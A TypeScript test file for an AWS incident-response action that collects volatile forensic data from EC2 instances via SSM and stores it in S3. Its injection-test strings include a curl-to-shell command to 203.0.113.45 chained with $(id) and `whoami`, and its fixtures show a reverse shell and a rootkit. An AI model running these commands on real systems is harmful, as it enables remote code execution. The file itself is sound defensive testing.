/**
 * collect-volatile. EC2 and S3 are always moto (instances, their tags and evidence objects behave
 * as on AWS). SSM is moto where it is faithful (the happy path: every command "succeeds" at once
 * with EMPTY output, and moto records the document name and parameters sent), and
 * aws-sdk-client-mock everywhere else, because the emulator lacks real SSM output and failures
 * (see test/support/moto/GAPS.md): real-looking outputs, polling through
 * InvocationDoesNotExist/InProgress to Success, a per-item failure, WaitTimedOut, truncated
 * output, an unregistered or offline agent. Only sentinel's document incident-collect-volatile is
 * ever sent, with the item as a parameter, after the instance was tagged for the incident.
 */
import { createHash } from 'node:crypto';
import { CreateTagsCommand, DescribeInstancesCommand, EC2Client, RunInstancesCommand, StopInstancesCommand } from '@aws-sdk/client-ec2';
import { CreateBucketCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import {
  DescribeInstanceInformationCommand,
  GetCommandInvocationCommand,
  InvocationDoesNotExist,
  ListCommandsCommand,
  SendCommandCommand,
  type GetCommandInvocationCommandOutput,
  type SendCommandCommandInput,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { awsClientOptions, createAwsClients, destroyAwsClients, type AwsClients } from '../../../../src/aws/clients.js';
import { SSM_DOCUMENTS, ssmDocument, ssmDocumentSha256 } from '../../../../src/aws/ssmDocuments.js';
import {
  collectVolatile,
  collectVolatileAction,
  volatileEvidenceKey,
  type CollectVolatileDetails,
  type VolatileItemResult,
} from '../../../../src/pipeline/actions/forensics/collectVolatile.js';
import type { ActionDeps } from '../../../../src/pipeline/actions/types.js';
import { SSM_INLINE_OUTPUT_LIMIT } from '../../../../src/pipeline/forensics/ec2Helpers.js';
import { volatileItems, type VolatileItemId } from '../../../../src/pipeline/forensics/volatileCommands.js';
import { invokeAction } from '../../../../src/pipeline/invokeAction.js';
import { testDeps, testSettings } from '../../../helpers/deps.js';
import { anyAmiId, createMotoClients, createVpcWithSubnet, MOTO_REGION, motoSettings, uniqueName } from '../../../support/aws.js';
import { useFakeWaiterClock } from '../../../support/fakeWaiterClock.js';

const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
const EMPTY_SHA = sha('');
/** Event-provided text that must never reach a command: it goes into the incident id, actor and reason. */
const HOSTILE = "inc-7; curl http://203.0.113.45/x|sh #$(id)`whoami`'";

let aws: AwsClients;
let bucket: string;
/** SSM clients made by the product's createAwsClients with no endpoint, answered by the mock. */
const unit = createAwsClients({ region: MOTO_REGION, credentials: { accessKeyId: 'unit', secretAccessKey: 'unit' } });
const ssm = mockClient(unit.ssm);
/** The order of EC2 calls (a moto-backed client that records each command) and SSM sends. */
const events: string[] = [];
let recordingEc2: EC2Client;

beforeAll(async () => {
  aws = createMotoClients();
  recordingEc2 = new EC2Client(awsClientOptions(motoSettings()));
  recordingEc2.middlewareStack.add(
    (next, context) => async (args) => {
      events.push(`ec2:${String(context.commandName).replace(/Command$/, '')}`);
      return next(args);
    },
    { step: 'initialize', name: 'recordOrder' },
  );
  bucket = uniqueName('volatile');
  await aws.s3.send(new CreateBucketCommand({ Bucket: bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
});
afterAll(() => {
  recordingEc2.destroy();
  destroyAwsClients(aws);
  destroyAwsClients(unit);
});
afterEach(() => {
  ssm.reset();
  events.length = 0;
});

async function launch(tags: Record<string, string> = {}): Promise<string> {
  const { subnetId } = await createVpcWithSubnet(aws.ec2);
  const run = await aws.ec2.send(
    new RunInstancesCommand({
      ImageId: await anyAmiId(aws.ec2),
      InstanceType: 't3.micro',
      MinCount: 1,
      MaxCount: 1,
      SubnetId: subnetId,
      ...(Object.keys(tags).length ? { TagSpecifications: [{ ResourceType: 'instance', Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) }] } : {}),
    }),
  );
  return run.Instances![0]!.InstanceId!;
}

async function instanceTags(instanceId: string): Promise<Record<string, string>> {
  const out = await aws.ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }));
  return Object.fromEntries((out.Reservations?.[0]?.Instances?.[0]?.Tags ?? []).map((t) => [t.Key!, t.Value!]));
}

const DOCUMENT = ssmDocument(SSM_DOCUMENTS.collectVolatile);
const DOCUMENT_NAME = 'sentinel-incident-collect-volatile';

function depsWith(ssmClient: 'moto' | 'mock'): ActionDeps {
  return testDeps({ aws: { ...aws, ec2: recordingEc2, ...(ssmClient === 'mock' ? { ssm: unit.ssm } : {}) }, settings: testSettings({ evidenceBucket: bucket, collector: 'sentinel-test' }) });
}

/** The SSM waits' timing; the clock is faked in the mocked describe (useFakeWaiterClock), so nothing waits for real. */
function fakePoll() {
  return { poll: { initialIntervalMs: 500, maxIntervalMs: 5000 } };
}

async function readObject(location: string): Promise<{ body: Buffer; metadata: Record<string, string> }> {
  const m = /^s3:\/\/([^/]+)\/(.+)$/.exec(location)!;
  const out = await aws.s3.send(new GetObjectCommand({ Bucket: m[1]!, Key: m[2]! }));
  const metadata = Object.fromEntries(Object.entries(out.Metadata ?? {}).map(([k, v]) => [k, decodeURIComponent(v)]));
  return { body: Buffer.from(await out.Body!.transformToByteArray()), metadata };
}

async function listKeys(prefix: string): Promise<string[]> {
  const out = await aws.s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: prefix }));
  return (out.Contents ?? []).map((c) => c.Key!);
}

const ALL = volatileItems({ webRoots: ['/var/www'], modifiedWithinMinutes: 1440 });
/** The item a SendCommand asks for; anything but sentinel's document with a catalogue item fails the test. */
const itemOf = (input: SendCommandCommandInput): VolatileItemId => {
  if (input.DocumentName !== DOCUMENT_NAME) throw new Error(`a document other than ${DOCUMENT_NAME} was sent: ${input.DocumentName}`);
  const item = input.Parameters?.item?.[0];
  const found = ALL.find((i) => i.id === item);
  if (!found) throw new Error(`an item outside the catalogue was sent: ${item}`);
  return found.id;
};

/** Real-looking output, as an instance under attack would print it. */
const OUTPUT: Partial<Record<VolatileItemId, string>> = {
  processes: [
    '    1     0 root                             Mon Nov 16 08:01:02 2026 /usr/lib/systemd/systemd --switched-root --system',
    '  812     1 root                             Mon Nov 16 08:01:09 2026 nginx: master process /usr/sbin/nginx',
    '31337   812 www-data                         Fri Nov 20 03:14:05 2026 bash -i',
    '31340 31337 www-data                         Fri Nov 20 03:14:07 2026 /tmp/.x/kworker -c 203.0.113.45:4444',
    '',
  ].join('\n'),
  'network-connections': [
    'State  Recv-Q Send-Q    Local Address:Port      Peer Address:Port Process',
    'LISTEN 0      511             0.0.0.0:80             0.0.0.0:*     users:(("nginx",pid=812,fd=6))',
    'ESTAB  0      0            10.0.12.34:48122     203.0.113.45:4444  users:(("bash",pid=31337,fd=0))',
    '',
  ].join('\n'),
  'kernel-modules': 'Module                  Size  Used by\nxt_conntrack           16384  1\ndiamorphine            16384  0\n',
  'deleted-binaries': 'lrwxrwxrwx 1 www-data www-data 0 Nov 20 03:14 /proc/31340/exe -> /tmp/.x/kworker (deleted)\n',
};

interface Script {
  /** GetCommandInvocation answers, in order; the last repeats. 'missing' = InvocationDoesNotExist. */
  states: (Partial<GetCommandInvocationCommandOutput> | 'missing')[];
}

/** Answers SendCommand and GetCommandInvocation per catalogue item. Returns the sent inputs. */
function scriptSsm(instanceId: string, scriptFor: (id: VolatileItemId) => Script) {
  const sent: SendCommandCommandInput[] = [];
  const queues = new Map<string, Script['states']>();
  let active = 0;
  let maxActive = 0;
  ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
  ssm.on(SendCommandCommand).callsFake((input: SendCommandCommandInput) => {
    sent.push(input);
    events.push('ssm:SendCommand');
    const id = itemOf(input);
    const commandId = `cmd-${id}-${sent.length}`;
    queues.set(commandId, [...scriptFor(id).states]);
    active += 1;
    maxActive = Math.max(maxActive, active);
    return { Command: { CommandId: commandId, Status: 'Pending' } };
  });
  ssm.on(GetCommandInvocationCommand).callsFake((input: { CommandId: string; InstanceId: string }) => {
    const q = queues.get(input.CommandId)!;
    const next = q.length > 1 ? q.shift()! : q[0]!;
    if (next === 'missing') throw new InvocationDoesNotExist({ message: 'InvocationDoesNotExist', $metadata: { httpStatusCode: 400 } });
    if (!['Pending', 'InProgress', 'Delayed'].includes(next.Status ?? '')) active -= 1;
    return { CommandId: input.CommandId, InstanceId: input.InstanceId, ...next };
  });
  return { sent, maxActive: () => maxActive };
}

const success = (stdout: string): Partial<GetCommandInvocationCommandOutput> => ({ Status: 'Success', ResponseCode: 0, StandardOutputContent: stdout, StandardErrorContent: '' });

describe('against moto (SSM happy path: instant Success, empty output)', () => {
  it('tags the instance, sends only its document per item, stores every item write-once with the document, parameters and sha256, and a rerun stores nothing new', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    const result = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'discord:1', incidentId }, depsWith('moto'));

    expect(result.status).toBe('succeeded');
    const details = result.details as CollectVolatileDetails;
    expect(details.partial).toBe(false);
    expect(details.incidentTag).toBe('tagged');
    expect(await instanceTags(instanceId)).toMatchObject({ 'sentinel:incident': incidentId });
    // What moto recorded: sentinel's document, one command per item, the item as a parameter. (By
    // command id: moto adds every instance of the region to a command sent without Targets, so
    // ListCommands by instance would also list other tests' commands.)
    const recorded = await Promise.all(details.items.map(async (i) => (await aws.ssm.send(new ListCommandsCommand({ CommandId: i.ssmCommandId! }))).Commands![0]!));
    expect(recorded.map((c) => c.DocumentName)).toEqual(ALL.map(() => DOCUMENT_NAME));
    expect(recorded.map((c) => c.Parameters?.item?.[0])).toEqual(ALL.map((i) => i.id));
    for (const c of recorded) {
      expect(c.InstanceIds).toContain(instanceId);
      expect(Object.keys(c.Parameters ?? {}).sort()).toEqual(c.Parameters?.item?.[0] === 'web-recent-files' ? ['executionTimeout', 'item', 'modifiedWithinMinutes', 'webRoots'] : ['executionTimeout', 'item']);
    }
    expect(details.items.map((i) => i.id)).toEqual(ALL.map((i) => i.id));
    // moto does not implement DescribeInstanceInformation (HTTP 500): tolerated, and said so.
    expect(details.ssm).toBe('not-checked');
    expect(details.notes.join(' ')).toContain('SSM registration not checked');
    expect(details.evidence).toHaveLength(ALL.length);

    for (const item of details.items) {
      const catalogue = ALL.find((i) => i.id === item.id)!;
      const parameters = { ...catalogue.parameters, executionTimeout: '300' };
      expect(item).toMatchObject({ status: 'succeeded', ssmStatus: 'Success', exitCode: 0, sha256: EMPTY_SHA, size: 0, document: DOCUMENT_NAME, parameters, alreadyStored: false });
      expect(item.location).toBe(`s3://${bucket}/${volatileEvidenceKey(incidentId, instanceId, item.id, EMPTY_SHA)}`);
      const stored = await readObject(item.location!);
      expect(stored.body.length).toBe(0);
      expect(stored.metadata).toMatchObject({
        sha256: EMPTY_SHA,
        'ssm-document': DOCUMENT_NAME,
        'ssm-document-sha256': ssmDocumentSha256(DOCUMENT),
        'ssm-parameters': JSON.stringify(parameters),
        'ssm-parameters-sha256': sha(JSON.stringify(parameters)),
        item: item.id,
        'instance-id': instanceId,
        'incident-id': incidentId,
        actor: 'discord:1',
        collector: 'sentinel-test',
      });
    }
    expect(details.evidence[0]).toMatchObject({ kind: 'volatile:processes', sha256: EMPTY_SHA, size: 0, collector: 'sentinel-test', source: { instanceId, item: 'processes' } });
    // moto's empty output is what a host hiding its processes (or an SSM that captured nothing) looks like: said, not hidden.
    const alwaysPrint = ALL.filter((i) => i.alwaysPrints).map((i) => i.id);
    expect(alwaysPrint).toEqual(['processes', 'network-connections', 'listening-sockets', 'logged-in-users', 'kernel-modules']);
    expect(details.items.filter((i) => i.unexpectedlyEmpty).map((i) => i.id)).toEqual(alwaysPrint);
    expect(result.summary).toContain(`empty, which a running host never prints (output not captured, or hidden on the host): ${alwaysPrint.join(', ')}`);

    const again = await invokeAction(collectVolatileAction, { instanceId, items: ['processes', 'kernel-modules'] }, { actor: 'discord:1', incidentId }, depsWith('moto'));
    expect(again.status).toBe('succeeded');
    expect((again.details as CollectVolatileDetails).incidentTag).toBe('already-tagged');
    expect((again.details as CollectVolatileDetails).items.map((i) => [i.id, i.alreadyStored])).toEqual([
      ['processes', true],
      ['kernel-modules', true],
    ]);
    expect(await listKeys(`evidence/${incidentId}/volatile/`)).toHaveLength(ALL.length);

    // Asking SSM for S3 output: moto writes none (like AWS for an empty stdout), so the inline copy is used.
    const viaS3 = await invokeAction(collectVolatileAction, { instanceId, items: ['processes'], ssmOutputToS3: true }, { actor: 'discord:1', incidentId }, depsWith('moto'));
    expect(viaS3.status).toBe('succeeded');
    expect((viaS3.details as CollectVolatileDetails).items[0]).toMatchObject({ status: 'succeeded', sha256: EMPTY_SHA, alreadyStored: true });
  });

  it('fails as NotFound for an instance EC2 does not have, and refuses a stopped one', async () => {
    const missing = await invokeAction(collectVolatileAction, { instanceId: 'i-0000000000000dead' }, { actor: 'cli', incidentId: 'inc-x' }, depsWith('moto'));
    expect(missing).toMatchObject({ status: 'failed', details: { error: 'InstanceNotFound', final: true } });

    const instanceId = await launch();
    await aws.ec2.send(new StopInstancesCommand({ InstanceIds: [instanceId] }));
    const stopped = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'cli', incidentId: 'inc-x' }, depsWith('moto'));
    expect(stopped).toMatchObject({ status: 'failed', details: { error: 'InstanceNotRunning', final: true } });
  });
});

describe('with mocked SSM (the emulator lacks real output and failures)', () => {
  useFakeWaiterClock();

  it('polls through InvocationDoesNotExist and InProgress, stores real output with the right sha256, and reports one failure and one timeout without losing the rest', async () => {
    const instanceId = await launch();
    const incidentId = `${HOSTILE}-${uniqueName('x')}`;
    const params = { webRoots: ['/var/www', '/srv/shop/public'], modifiedWithinMinutes: 90 };
    const catalogue = volatileItems(params);
    const { sent, maxActive } = scriptSsm(instanceId, (id) => {
      if (id === 'kernel-modules') return { states: [{ Status: 'InProgress' }, { Status: 'Failed', ResponseCode: 127, StandardOutputContent: '', StandardErrorContent: 'sh: 1: lsmod: not found\nfailed to run commands: exit status 127' }] };
      if (id === 'recent-logs') return { states: [{ Status: 'InProgress' }] };
      return { states: ['missing', { Status: 'Pending' }, { Status: 'InProgress' }, success(OUTPUT[id] ?? `output of ${id}\n`)] };
    });

    const result = await collectVolatile(
      { input: { instanceId, ...params, itemTimeoutSeconds: 60 }, actor: HOSTILE, incidentId, reason: HOSTILE },
      depsWith('mock'),
      fakePoll(),
    );

    expect(result.status).toBe('succeeded');
    const details = result.details as CollectVolatileDetails;
    expect(details.partial).toBe(true);
    expect(details.ssm).toBe('online');
    expect(result.summary).toMatch(/^collected 10 of 12 volatile item\(s\)/);
    expect(result.summary).toContain('kernel-modules');
    expect(result.summary).toContain('lsmod: not found');
    expect(result.summary).toContain('recent-logs');
    // Every item printed something: nothing is flagged as empty.
    expect(details.items.filter((i) => i.unexpectedlyEmpty)).toEqual([]);
    expect(result.summary).not.toContain('empty');

    const byId = Object.fromEntries(details.items.map((i) => [i.id, i])) as Record<VolatileItemId, VolatileItemResult>;
    expect(byId['kernel-modules']).toMatchObject({ status: 'failed', ssmStatus: 'Failed', exitCode: 127, stderr: expect.stringContaining('lsmod: not found') });
    expect(byId['kernel-modules'].location).toBeUndefined();
    expect(byId['recent-logs']).toMatchObject({ status: 'failed', ssmStatus: 'WaitTimedOut' });
    expect(byId['recent-logs'].error).toContain('no result within');

    // The stored processes list is exactly what SSM returned, hashed correctly, with what ran.
    const processes = byId.processes;
    expect(processes).toMatchObject({ status: 'succeeded', sha256: sha(OUTPUT.processes!), size: Buffer.byteLength(OUTPUT.processes!), records: 4 });
    const stored = await readObject(processes.location!);
    expect(stored.body.toString('utf8')).toBe(OUTPUT.processes);
    expect(sha(stored.body)).toBe(processes.sha256);
    expect(stored.metadata.sha256).toBe(processes.sha256);
    expect(stored.metadata['ssm-document']).toBe(DOCUMENT_NAME);
    expect(JSON.parse(stored.metadata['ssm-parameters']!)).toEqual({ item: 'processes', executionTimeout: '60' });
    expect(stored.metadata['ssm-command-id']).toBe(processes.ssmCommandId);
    expect(byId['network-connections'].records).toBe(2);
    expect(byId['deleted-binaries'].records).toBe(1);
    // The web item's parameters (the validated roots and minutes) survive S3 metadata intact.
    const web = await readObject(byId['web-recent-files'].location!);
    expect(JSON.parse(web.metadata['ssm-parameters']!)).toEqual({ item: 'web-recent-files', webRoots: '/var/www /srv/shop/public', modifiedWithinMinutes: '90', executionTimeout: '60' });
    expect(byId['web-recent-files'].parameters).toEqual({ item: 'web-recent-files', webRoots: '/var/www /srv/shop/public', modifiedWithinMinutes: '90', executionTimeout: '60' });
    expect(details.evidence.map((e) => e.kind)).toHaveLength(10);
    expect(details.evidence[0]!.source).toMatchObject({ ssmDocument: DOCUMENT_NAME, ssmDocumentSha256: ssmDocumentSha256(DOCUMENT) });

    // Exactly one command per item: sentinel's document, the item and timeout as parameters, this instance.
    expect(sent.map(itemOf).sort()).toEqual(ALL.map((i) => i.id).sort());
    for (const s of sent) {
      const item = catalogue.find((i) => i.id === itemOf(s))!;
      expect(s).toEqual({ InstanceIds: [instanceId], DocumentName: DOCUMENT_NAME, Comment: `sentinel collect-volatile ${item.id}`, Parameters: Object.fromEntries(Object.entries({ ...item.parameters, executionTimeout: '60' }).map(([k, v]) => [k, [v]])) });
      // Nothing from the event (incident id, actor, reason) is in anything sent to the instance.
      const everything = JSON.stringify(s);
      for (const fragment of ['203.0.113.45', '$(id)', '`whoami`', 'inc-7']) expect(everything).not.toContain(fragment);
    }
    // The instance was tagged with the incident id once, before the first send (the IAM policy requires it).
    expect(events.filter((e) => e !== 'ssm:SendCommand')).toEqual(['ec2:DescribeInstances', 'ec2:CreateTags']);
    expect(events.indexOf('ec2:CreateTags')).toBeLessThan(events.indexOf('ssm:SendCommand'));
    expect(await instanceTags(instanceId)).toEqual({ 'sentinel:incident': incidentId });
    // Bounded concurrency: several at once, never more than the default 4.
    expect(maxActive()).toBeGreaterThan(1);
    expect(maxActive()).toBeLessThanOrEqual(4);
  });

  it('keeps concurrency at the requested bound', async () => {
    const instanceId = await launch();
    const { maxActive } = scriptSsm(instanceId, () => ({ states: [{ Status: 'InProgress' }, { Status: 'InProgress' }, success('x\n')] }));
    const result = await collectVolatile({ input: { instanceId, concurrency: 2 }, actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(result.status).toBe('succeeded');
    expect(maxActive()).toBe(2);
  });

  it('is failed, not succeeded, when no item could be collected', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    scriptSsm(instanceId, () => ({ states: [{ Status: 'Failed', ResponseCode: 1, StandardErrorContent: 'permission denied' }] }));
    const result = await collectVolatile({ input: { instanceId, items: ['processes', 'crontabs'] }, actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
    expect(result.status).toBe('failed');
    expect(result.details).toMatchObject({ error: 'VolatileCollectionFailed', final: false, evidence: [] });
    expect(result.summary).toContain('collected none of 2');
    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
  });

  it('flags output cut at SSM\'s inline limit as truncated (partial), in the result and the object metadata', async () => {
    const instanceId = await launch();
    const long = `${'x'.repeat(SSM_INLINE_OUTPUT_LIMIT - 1)}\n`;
    scriptSsm(instanceId, () => ({ states: [success(long)] }));
    const result = await collectVolatile({ input: { instanceId, items: ['network-connections'] }, actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(result.status).toBe('succeeded');
    const details = result.details as CollectVolatileDetails;
    expect(details.partial).toBe(true);
    expect(details.items[0]).toMatchObject({ truncated: true, size: SSM_INLINE_OUTPUT_LIMIT });
    expect(result.summary).toContain("cut at SSM's 24000-character limit: network-connections");
    expect((await readObject(details.items[0]!.location!)).metadata.truncated).toBe('true');
  });

  it('with ssmOutputToS3, stores the full output SSM wrote to S3 instead of the cut inline copy', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    const full = `${'ESTAB 0 0 10.0.0.1:22 198.51.100.7:51514\n'.repeat(2000)}`;
    const { sent } = scriptSsm(instanceId, () => ({ states: [success(full.slice(0, SSM_INLINE_OUTPUT_LIMIT))] }));
    // Play the SSM agent: it uploads the step's stdout under <prefix>/<command id>/<instance>/awsrunShellScript/<step>/stdout.
    ssm.on(SendCommandCommand).callsFake(async (input: SendCommandCommandInput) => {
      sent.push(input);
      const commandId = 'cmd-full-1';
      await aws.s3.send(
        new PutObjectCommand({ Bucket: input.OutputS3BucketName!, Key: `${input.OutputS3KeyPrefix}/${commandId}/${instanceId}/awsrunShellScript/collectVolatile/stdout`, Body: full }),
      );
      return { Command: { CommandId: commandId } };
    });
    ssm.on(GetCommandInvocationCommand).resolves(success(full.slice(0, SSM_INLINE_OUTPUT_LIMIT)));

    const result = await collectVolatile({ input: { instanceId, items: ['network-connections'], ssmOutputToS3: true }, actor: 'cli', incidentId }, depsWith('mock'), fakePoll());
    expect(result.status).toBe('succeeded');
    const item = (result.details as CollectVolatileDetails).items[0]!;
    expect(item).toMatchObject({ sha256: sha(full), size: full.length, records: 2000 });
    expect(item.truncated).toBeUndefined();
    expect(sent[0]).toMatchObject({ OutputS3BucketName: bucket, OutputS3KeyPrefix: `evidence/${incidentId}/volatile-ssm/${instanceId}/network-connections` });
    expect((await readObject(item.location!)).body.toString()).toBe(full);
  });

  it('refuses an instance SSM does not manage, or whose agent is offline, before sending anything', async () => {
    const instanceId = await launch();
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [] });
    const unmanaged = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
    expect(unmanaged).toMatchObject({ status: 'failed', details: { error: 'NotManagedBySsm' } });

    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'ConnectionLost' }] });
    const offline = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
    expect(offline).toMatchObject({ status: 'failed', details: { error: 'SsmAgentOffline' } });
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(await instanceTags(instanceId)).toEqual({});
  });

  it('refuses a protected instance in preflight: nothing tagged, nothing sent', async () => {
    const instanceId = await launch({ 'sentinel:protected': 'payments' });
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
    const result = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'));
    expect(result).toMatchObject({ status: 'failed', details: { error: 'ProtectedTarget', final: true } });
    expect(result.summary).toBe(`instance ${instanceId} is protected (tag sentinel:protected=payments); sentinel never collects evidence on it`);
    // Also as a dry run, and with another protected tag key configured.
    const custom = testDeps({ aws: { ...aws, ec2: recordingEc2, ssm: unit.ssm }, settings: testSettings({ evidenceBucket: bucket, protectedTag: 'corp:no-touch' }) });
    const other = await launch({ 'corp:no-touch': '' });
    const dry = await invokeAction(collectVolatileAction, { instanceId: other }, { actor: 'cli', incidentId: 'inc-1', dryRun: true }, custom);
    expect(dry).toMatchObject({ status: 'failed', details: { error: 'ProtectedTarget' } });
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(events).not.toContain('ec2:CreateTags');
    expect(await instanceTags(instanceId)).toEqual({ 'sentinel:protected': 'payments' });
  });

  it('leaves a tag of another incident in place (the tag only has to be there) and says so', async () => {
    const instanceId = await launch({ 'sentinel:incident': 'inc-earlier' });
    const { sent } = scriptSsm(instanceId, () => ({ states: [success('x\n')] }));
    const result = await collectVolatile({ input: { instanceId, items: ['processes'] }, actor: 'cli', incidentId: uniqueName('inc') }, depsWith('mock'), fakePoll());
    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ incidentTag: 'tagged-for-another-incident' });
    expect((result.details as CollectVolatileDetails).notes).toContain(`${instanceId} was already tagged sentinel:incident for another incident; that tag was left as it is`);
    expect(sent).toHaveLength(1);
    expect(events).not.toContain('ec2:CreateTags');
    expect(await instanceTags(instanceId)).toEqual({ 'sentinel:incident': 'inc-earlier' });
  });

  it('sends nothing when tagging fails (the send would be denied, or go to an instance not marked for the incident)', async () => {
    const instanceId = await launch();
    scriptSsm(instanceId, () => ({ states: [success('x\n')] }));
    const ec2 = mockClient(unit.ec2);
    ec2.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [{ InstanceId: instanceId, State: { Name: 'running' }, Tags: [] }] }] });
    ec2.on(CreateTagsCommand).rejects(Object.assign(new Error('You are not authorized to perform this operation.'), { name: 'UnauthorizedOperation' }));
    try {
      const deps = testDeps({ aws: { ...aws, ec2: unit.ec2, ssm: unit.ssm }, settings: testSettings({ evidenceBucket: bucket }) });
      const result = await invokeAction(collectVolatileAction, { instanceId }, { actor: 'cli', incidentId: 'inc-1' }, deps);
      expect(result).toMatchObject({ status: 'failed', details: { error: 'Aws', final: false } });
      expect(result.summary).toContain('CreateTags sentinel:incident on');
      expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
    } finally {
      ec2.restore();
    }
  });

  it('dry run: returns the document and parameters, and sends, tags and writes nothing', async () => {
    const instanceId = await launch();
    const incidentId = uniqueName('inc');
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: instanceId, PingStatus: 'Online' }] });
    const result = await invokeAction(collectVolatileAction, { instanceId, items: ['processes', 'web-recent-files'], webRoots: ['/srv/app'] }, { actor: 'cli', incidentId, dryRun: true }, depsWith('mock'));
    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(new RegExp(`^dry run: would tag ${instanceId} for the incident, run ${DOCUMENT_NAME} 2 time\\(s\\)`));
    const plan = result.details as { dryRun: boolean; document: string; items: { id: string; parameters: Record<string, string> }[]; keyPattern: string };
    expect(plan.dryRun).toBe(true);
    expect(plan.document).toBe(DOCUMENT_NAME);
    expect(plan.items.map((i) => i.id)).toEqual(['processes', 'web-recent-files']);
    expect(plan.items[1]!.parameters).toEqual({ item: 'web-recent-files', webRoots: '/srv/app', modifiedWithinMinutes: '1440', executionTimeout: '300' });
    expect(plan.keyPattern).toBe(`evidence/${incidentId}/volatile/${instanceId}/<item>/<sha256>.txt`);
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
    expect(await listKeys(`evidence/${incidentId}/`)).toEqual([]);
    expect(await instanceTags(instanceId)).toEqual({});
  });

  it('refuses injected web roots and unknown items as invalid input, sending nothing', async () => {
    for (const input of [
      { instanceId: 'i-0123456789abcdef0', webRoots: ['/var/www; curl http://203.0.113.45/x|sh'] },
      { instanceId: 'i-0123456789abcdef0', webRoots: ['/var/www/../../etc'] },
      { instanceId: 'i-0123456789abcdef0', modifiedWithinMinutes: '60; id' },
      { instanceId: 'i-0123456789abcdef0', items: ['processes; id'] },
      { instanceId: 'i-0123456789abcdef0 ; id' },
    ]) {
      const result = await invokeAction(collectVolatileAction, input, { actor: 'cli', incidentId: 'inc-1' }, depsWith('mock'));
      expect(result).toMatchObject({ status: 'failed', details: { error: 'InvalidInput', final: true } });
    }
    // Called directly (no invokeAction), the action validates again.
    await expect(
      collectVolatile({ input: { instanceId: 'i-0123456789abcdef0', webRoots: ['/var/$(id)'] }, actor: 'cli', incidentId: 'inc-1' }, depsWith('mock')),
    ).rejects.toMatchObject({ name: 'ValidationError' });
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it('declares least-privilege permissions', () => {
    expect(collectVolatileAction.id).toBe('collect-volatile');
    expect([...collectVolatileAction.permissions.iam].sort()).toEqual(
      ['ec2:DescribeInstances', 'ec2:CreateTags', 'ssm:DescribeInstanceInformation', 'ssm:SendCommand', 'ssm:GetCommandInvocation', 's3:PutObject', 's3:GetObject', 's3:ListBucket'].sort(),
    );
    expect(collectVolatileAction.destroysMemory).toBeUndefined();
  });
});
